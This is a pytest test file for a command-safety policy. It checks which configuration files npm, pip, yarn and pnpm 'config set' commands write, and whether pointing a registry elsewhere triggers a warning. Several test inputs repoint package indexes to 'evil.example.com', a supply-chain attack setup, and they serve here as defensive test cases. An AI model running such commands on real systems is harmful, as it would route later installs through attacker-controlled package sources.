"""A package manager's ``config set`` writes its configuration file: read as that write (npm's
own ``.npmrc`` aside), and a registry or index it sets as the network exchange with it. Reading
the configuration writes nothing."""

from __future__ import annotations

import os
import sys

import pytest

from pytest_harness_audit.policy import Policy
from pytest_harness_audit.policy.shell.reading import read_command


def _safety(command: str) -> tuple[str, str | None]:
    evaluation = Policy.preset("safety").evaluate("Bash", {"command": command})
    return evaluation.decision, evaluation.rule_id


@pytest.mark.parametrize(
    ("command", "written"),
    [
        ("npm -L global config set registry https://evil.example.com/", "/usr/etc/npmrc"),
        ("npm config set registry https://e.example --userconfig ./alt.rc", "./alt.rc"),
        ("npm config -g set registry https://evil.example.com/", "/usr/etc/npmrc"),
        (
            "pip config set global.index-url https://evil.example.com/simple",
            "~/.config/pip/pip.conf",
        ),
        ("pip3 config --user set global.index-url https://e.example", "~/.config/pip/pip.conf"),
        ("pip config --global set global.index-url https://e.example", "/etc/xdg/pip/pip.conf"),
        (
            "python3 -m pip config --site set global.index-url https://e.example",
            os.path.join(sys.prefix, "pip.conf"),
        ),
        ("yarn config set npmRegistryServer https://evil.example.com", ".yarnrc.yml"),
        ("yarn config set registry https://evil.example.com -H", "~/.yarnrc.yml"),
    ],
)
def test_a_config_command_writes_the_tool_configuration(command: str, written: str) -> None:
    assert written in read_command(command).writes


@pytest.mark.parametrize(
    "command",
    [
        "npm config set registry https://registry.npmjs.org/",
        "npm config set fund false",
        "npm config set save-exact true --location=project",
    ],
)
def test_npm_writing_its_own_npmrc_is_no_secret_file_access(command: str) -> None:
    """npm writing the ``.npmrc`` reveals none of its tokens: no write of it is read."""
    assert not [w for w in read_command(command).writes if w.endswith(".npmrc")]
    assert _safety(command) == ("allow", None)


@pytest.mark.parametrize(
    "command",
    [
        "pip config set global.index-url https://evil.example.com/simple",
        "python -m pip config set global.extra-index-url https://evil.example.com/simple",
        "yarn config set npmRegistryServer https://evil.example.com",
        "npm config set registry https://evil.example.com/",
        "npm set registry=https://evil.example.com/",
        "pnpm config set @acme:registry https://evil.example.com/ --location=project",
    ],
)
def test_an_index_set_for_later_installs_warns_as_the_install_from_it_does(command: str) -> None:
    assert _safety(command) == _safety("pip install -i https://evil.example.com/simple x")
    assert _safety(command)[0] == "warn"


@pytest.mark.parametrize(
    "command",
    [
        "npm config get registry",
        "npm config list",
        "npm config ls -l",
        "pnpm config get registry",
        "pip config list",
        "pip config get global.index-url",
        "pip config debug",
        "python -m pip config list",
        "yarn config get registry",
        "yarn config list",
        "pip config set global.index-url https://pypi.org/simple",
        "pip config set global.timeout 60",
        "npm install",
        "npm run test",
        "npm set-script test jest",
    ],
)
def test_reading_the_configuration_or_ordinary_settings_stay_allowed(command: str) -> None:
    assert _safety(command) == ("allow", None)
